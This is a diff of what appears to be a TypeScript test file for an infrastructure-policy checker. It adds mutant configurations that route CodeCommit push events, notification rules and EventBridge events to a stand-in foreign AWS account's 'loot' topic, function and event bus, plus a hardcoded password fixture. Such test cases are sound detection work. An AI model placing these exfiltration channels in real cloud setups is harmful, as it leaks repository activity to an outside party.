@@ -543,19 +543,44 @@ const stranger = "999999999999";
 
 /** C10. */
 export const carrierMutants: readonly Mutation[] = [
-  `arn:aws:sns:ap-northeast-1:${stranger}:loot`,
-  `arn:aws:lambda:ap-northeast-1:${stranger}:function:loot`,
-].flatMap((destinationArn) =>
-  ["platform.app", "platform.network"].map((repositoryName) => ({
-    what: `has ${repositoryName} tell ${destinationArn} of each push`,
+  ...[
+    `arn:aws:sns:ap-northeast-1:${stranger}:loot`,
+    `arn:aws:lambda:ap-northeast-1:${stranger}:function:loot`,
+  ].flatMap((destinationArn) =>
+    ["platform.app", "platform.network"].map((repositoryName) => ({
+      what: `has ${repositoryName} tell ${destinationArn} of each push`,
+      mutate: (exports: Exports) => {
+        exports.add("prd", "aws:codecommit/trigger:Trigger", "trigger", {
+          repositoryName,
+          triggers: [{ name: "all", events: ["all"], destinationArn }],
+        });
+      },
+    })),
+  ),
+  ...["platform.app", "platform.network"].map((name) => ({
+    what: `has another account's topic notified of ${name}`,
     mutate: (exports: Exports) => {
-      exports.add("prd", "aws:codecommit/trigger:Trigger", "trigger", {
-        repositoryName,
-        triggers: [{ name: "all", events: ["all"], destinationArn }],
+      exports.add("prd", "aws:codestarnotifications/notificationRule:NotificationRule", "notify", {
+        resource: `arn:aws:codecommit:ap-northeast-1:222222222222:${name}`,
+        targets: [{ type: "SNS", address: `arn:aws:sns:ap-northeast-1:${stranger}:loot` }],
       });
     },
   })),
-);
+  ...[
+    { source: ["aws.codecommit"] },
+    { source: ["aws.s3", "aws.codecommit"] },
+    { source: [{ prefix: "aws." }] },
+    { "detail-type": ["CodeCommit Repository State Change"] },
+  ].map((pattern) => ({
+    what: `sends events like ${JSON.stringify(pattern)} to another account's bus`,
+    mutate: (exports: Exports) => {
+      const eventPattern = JSON.stringify(pattern);
+      exports.add("prd", "aws:cloudwatch/eventRule:EventRule", "pushes", { name: "pushes", eventPattern });
+      const arn = `arn:aws:events:ap-northeast-1:${stranger}:event-bus/default`;
+      exports.add("prd", "aws:cloudwatch/eventTarget:EventTarget", "bus", { rule: "pushes", arn });
+    },
+  })),
+];
 
 const password = "Eqk4LREA16x2l6ZkDueMcDQfRXaRJov6bqAaSuh1rkk=";
 
